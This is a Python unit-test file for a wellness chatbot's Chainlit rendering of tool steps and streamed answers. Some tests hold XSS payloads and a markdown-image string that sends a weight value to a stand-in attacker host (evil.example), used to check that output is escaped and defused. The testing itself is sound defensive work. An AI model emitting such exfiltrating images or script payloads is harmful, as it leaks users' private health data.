"""Agent turns rendered into Chainlit: tool steps above a lazily created, streamed answer."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest

from tests.unit.test_chat_helpers import make_context
from wellness.agent.graph import TurnEvent
from wellness.chat.streaming import render_turn, step_output

CHART = {"kind": "line", "title": "Daily steps", "x": ["2026-11-01", "2026-11-02"],
         "series": {"steps": [8000, 9500]}, "y_label": "steps"}


async def _events(evs: list[TurnEvent], delay: float = 0.0):
    for ev in evs:
        if delay:
            await asyncio.sleep(delay)
        yield ev


async def test_tool_step_precedes_streamed_answer_with_chart() -> None:
    ctx = make_context()
    evs = [
        TurnEvent.tool_start("c1", "metric_series", {"metric": "steps", "period": "last week"}),
        TurnEvent.tool_end("c1", "metric_series", {"summary": "You walked 17,500 steps.",
                                                   "chart": CHART}),
        TurnEvent.token("You walked "),
        TurnEvent.token("17,500 steps."),
        TurnEvent.done("You walked 17,500 steps.", []),
    ]
    outcome = await render_turn(_events(evs))
    assert outcome.tool_calls == ["metric_series"]
    assert outcome.charts == 1
    rec = ctx.emitter
    tools = rec.steps("tool")
    assert len(tools) == 1 and tools[0]["name"] == "metric_series"
    assert json.loads(tools[0]["input"]) == {"metric": "steps", "period": "last week"}
    assert "17,500" in tools[0]["output"] and "drawn below the answer" in tools[0]["output"]
    # the tool step is emitted before the answer message exists
    first_tool = next(i for i, (e, d) in enumerate(rec.events) if d.get("type") == "tool")
    first_answer = next(i for i, (e, d) in enumerate(rec.events)
                        if isinstance(d, dict) and d.get("type") == "assistant_message")
    assert first_tool < first_answer
    assert rec.texts() == ["You walked 17,500 steps."]
    assert rec.of("stream_token"), "tokens must stream"
    plots = [e for e in rec.of("element") if e["type"] == "plotly"]
    assert len(plots) == 1


async def test_answer_segments_split_around_tool_calls() -> None:
    ctx = make_context()
    evs = [TurnEvent.token("Let me check. "),
           TurnEvent.tool_start("c1", "last_workout", {}),
           TurnEvent.tool_end("c1", "last_workout", {"summary": "Run on Monday."}),
           TurnEvent.token("Your last workout was a run."),
           TurnEvent.done("Your last workout was a run.", [])]
    await render_turn(_events(evs))
    assert ctx.emitter.texts() == ["Let me check. ", "Your last workout was a run."]


async def test_done_without_tokens_sends_answer() -> None:
    ctx = make_context()
    await render_turn(_events([TurnEvent.done("Nothing to see.", [])]))
    assert ctx.emitter.texts() == ["Nothing to see."]


async def test_error_event_is_one_plain_sentence() -> None:
    ctx = make_context()
    evs = [TurnEvent.tool_start("c1", "sleep_summary", {}),
           TurnEvent.error("The language model didn't answer just now.")]
    outcome = await render_turn(_events(evs))
    assert outcome.error
    assert ctx.emitter.texts()[-1] == "The language model didn't answer just now."
    step = ctx.emitter.steps("tool")[0]
    assert step["isError"] is True


async def test_stop_cancels_cleanly_and_closes_the_generator() -> None:
    ctx = make_context()
    closed = asyncio.Event()

    async def slow():
        try:
            yield TurnEvent.tool_start("c1", "metric_summary", {"metric": "steps"})
            yield TurnEvent.token("Half an ")
            await asyncio.sleep(10)
            yield TurnEvent.token("answer")
        finally:
            closed.set()

    task = asyncio.create_task(render_turn(slow()))
    await asyncio.sleep(0.1)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert closed.is_set()
    step = ctx.emitter.steps("tool")[0]
    assert step["output"] == "stopped"
    assert ctx.emitter.texts() == ["Half an "]


def test_step_output_is_json_and_bounded() -> None:
    text = step_output({"summary": "<script>alert(1)</script>", "rows": list(range(5000))})
    assert text.startswith("{")
    assert len(text) < 7000


def test_html_in_tool_results_stays_inside_json() -> None:
    out = step_output({"source": "<img src=x onerror=alert(1)>"})
    assert json.loads(out)["source"] == "<img src=x onerror=alert(1)>"


async def test_tool_step_language_is_json_so_results_render_as_code() -> None:
    ctx = make_context()
    evs: list[Any] = [TurnEvent.tool_start("c1", "health_data_range", {}),
                      TurnEvent.tool_end("c1", "health_data_range", {"summary": "**bold**"}),
                      TurnEvent.done("ok", [])]
    await render_turn(_events(evs))
    assert ctx.emitter.steps("tool")[0]["language"] == "json"


async def test_markdown_images_in_answers_are_defused_even_across_tokens() -> None:
    ctx = make_context()
    evs = [TurnEvent.token("Source: !"), TurnEvent.token("[x](http://evil.example/leak?d=70kg)"),
           TurnEvent.token(" and ![y](http://e/2)"), TurnEvent.done("", [])]
    await render_turn(_events(evs))
    text = ctx.emitter.texts()[0]
    assert "![" not in text and text.count("!\\[") == 2
